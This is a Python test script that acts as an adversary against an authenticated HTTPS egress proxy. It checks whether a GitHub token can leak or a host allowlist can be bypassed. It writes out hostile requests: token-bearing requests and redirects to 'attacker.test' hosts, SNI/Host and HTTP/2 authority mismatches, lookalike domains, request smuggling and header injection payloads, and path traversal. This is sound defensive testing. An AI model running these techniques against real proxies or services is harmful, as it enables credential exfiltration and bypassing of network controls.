"""Runs inside the container: what an adversary writes to the proxy by hand. Says what came back, as JSON.

Only the library of any Python 3, and h2 from /workspace/packages.
"""

import base64
import contextlib
import json
import os
import socket
import ssl
import subprocess
import sys
from urllib.parse import urlsplit

PROXY = urlsplit(os.environ["HTTPS_PROXY"])
AUTH = base64.b64encode(f"{PROXY.username}:{PROXY.password}".encode()).decode()
API = "api.github.com"
PLACEHOLDER = os.environ["GH_TOKEN"]


def connect(target, token=AUTH):
    """A connection to the proxy and the status line of its answer to CONNECT."""
    conn = socket.create_connection((PROXY.hostname, PROXY.port), 20)
    head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
    conn.sendall((head + (f"Proxy-Authorization: Basic {token}\r\n" if token else "") + "\r\n").encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        data = conn.recv(1)
        if not data:
            break
        answer += data
    return conn, answer.split(b"\r\n")[0].decode()


def tls(target, sni, alpn=("http/1.1",)):
    conn, status = connect(target)
    if " 200 " not in status:
        return status
    context = ssl.create_default_context()
    context.check_hostname = False
    context.set_alpn_protocols(list(alpn))
    try:
        return context.wrap_socket(conn, server_hostname=sni)
    except OSError as error:
        return f"no TLS: {type(error).__name__}"


def everything(conn):
    conn.settimeout(10)
    answer = b""
    try:
        while data := conn.recv(65536):
            answer += data
    except OSError:
        pass
    conn.close()
    return answer.decode("latin-1")


def say(raw, target=f"{API}:443", sni=API):
    """All that comes back for these bytes inside TLS."""
    conn = tls(target, sni)
    if isinstance(conn, str):
        return conn
    with contextlib.suppress(OSError):  # it may hang up on us; what it said before still counts
        conn.sendall(raw)
    return everything(conn)


def get(path="/user", host=API, target=f"{API}:443", sni=API, extra=""):
    return say(
        f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{extra}\r\n".encode(), target, sni
    )


def plain(url, host):
    conn = socket.create_connection((PROXY.hostname, PROXY.port), 20)
    auth = f"Proxy-Authorization: Basic {AUTH}\r\nConnection: close\r\n"
    conn.sendall(f"GET {url} HTTP/1.1\r\nHost: {host}\r\n{auth}\r\n".encode())
    return everything(conn)


def streams():
    """Three HTTP/2 streams on one connection; the second one's :authority is another host."""
    sys.path.insert(0, "/workspace/packages")
    from h2.connection import H2Connection
    from h2.events import ResponseReceived, StreamEnded, StreamReset

    conn = tls(f"{API}:443", API, ("h2",))
    assert conn.selected_alpn_protocol() == "h2"
    http = H2Connection()
    http.initiate_connection()
    told = {}
    for stream, authority in ((1, API), (3, "attacker.test"), (5, API)):
        fields = [(":method", "GET"), (":path", "/user"), (":scheme", "https"), (":authority", authority)]
        http.send_headers(stream, fields, end_stream=True)
    conn.sendall(http.data_to_send())
    conn.settimeout(20)
    ended = set()
    while len(ended) < 3:
        data = conn.recv(65536)
        if not data:
            break
        for event in http.receive_data(data):
            if isinstance(event, ResponseReceived):
                told[event.stream_id] = dict(event.headers).get(b":status", b"").decode()
            elif isinstance(event, (StreamEnded, StreamReset)):
                ended.add(event.stream_id)
        conn.sendall(http.data_to_send())
    return told


def smuggled(fields, body=b""):
    return say(f"POST /user HTTP/1.1\r\nHost: {API}\r\n{fields}\r\n".encode("latin-1") + body)


def redirected():
    """What curl makes of a redirect to another host; its own word where it ended."""
    url = f"https://{API}/redirect?to=https%3A%2F%2Fgithub.com.attacker.test%2Fuser"
    header = f"Authorization: Bearer {PLACEHOLDER}"
    command = [
        "curl",
        "-sS",
        "-L",
        "--location-trusted",
        "-H",
        header,
        "-w",
        " %{http_code} %{url_effective}",
        url,
    ]
    return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False).stdout


CASES = {
    "01": lambda: get(target="attacker.test:443", sni="attacker.test"),
    "02": lambda: get(sni="attacker.test"),
    "03": streams,
    "04": lambda: get("https://attacker.test/user"),
    "04 same": lambda: get(f"https://{API}/user"),
    "05": lambda: plain(f"http://{API}/user", API),
    "06": lambda: get(host=f"{API}:8443", target=f"{API}:8443"),
    "07 longer": lambda: get(host=f"{API}.evil.test", target=f"{API}.evil.test:443", sni=f"{API}.evil.test"),
    "07 user": lambda: get(host=f"{API}@attacker.test"),
    "07 spelling": lambda: get(host="API.GitHub.com.", target="API.GITHUB.COM.:443"),
    "07 lookalike": lambda: get(host="\u0430pi.github.com".encode().decode("latin-1")),
    "08": lambda: get(target="140.82.121.6:443"),
    "09": lambda: get(host="sentry.io", target="sentry.io:443", sni="sentry.io"),
    "10": redirected,
    "11": lambda: get(
        host="github.com.attacker.test",
        target="github.com.attacker.test:443",
        sni="github.com.attacker.test",
        extra=f"Authorization: Bearer {PLACEHOLDER}\r\n",
    ),
    "11 url": lambda: get(f"/?t={PLACEHOLDER}", "attacker.test", "attacker.test:443", "attacker.test"),
    "20": lambda: get(host="localhost", target="localhost:443", sni="localhost"),
    "23": lambda: connect(f"{API}:443", base64.b64encode(b"moat:" + b"x" * 43).decode())[1],
    "23 none": lambda: connect(f"{API}:443", "")[1],
    "25 both": lambda: smuggled("Content-Length: 3\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n"),
    "25 twice": lambda: smuggled("Content-Length: 3\r\nContent-Length: 4\r\n", b"abc"),
    "25 odd coding": lambda: smuggled("Transfer-Encoding: xchunked\r\n", b"0\r\n\r\n"),
    "25 folded": lambda: smuggled("X-A: a\r\n b: c\r\n"),
    "25 nul": lambda: smuggled("X-A: a\0b\r\n"),
    "25 bare cr": lambda: smuggled("X-A: a\rHost: attacker.test\r\n"),
    "25 bare lf": lambda: say(f"GET /user HTTP/1.1\nHost: {API}\n\n".encode()),
    "26": lambda: say(
        b"".join(
            f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: {then}\r\n\r\n".encode()
            for path, host, then in (
                ("/user", API, "keep-alive"),
                ("/user", "attacker.test", "keep-alive"),
                ("/user", API, "close"),
            )
        )
    ),
    "28": lambda: say(
        f"GET /user HTTP/1.1\r\nHost: {API}\r\nX-A: ".encode() + b"a" * 2_000_000 + b"\r\n\r\n"
    ),
    "29 dots": lambda: get("/open/..%2fadmin/keys"),
    "29 slashes": lambda: get("//admin/keys"),
    "29 plain": lambda: get("/admin/keys"),
}

if __name__ == "__main__":
    told = {}
    for name, attack in CASES.items():
        try:
            told[name] = attack()
        except Exception as error:
            told[name] = f"{type(error).__name__}: {error}"
    with open("/workspace/told.json", "w") as file:
        json.dump(told, file)
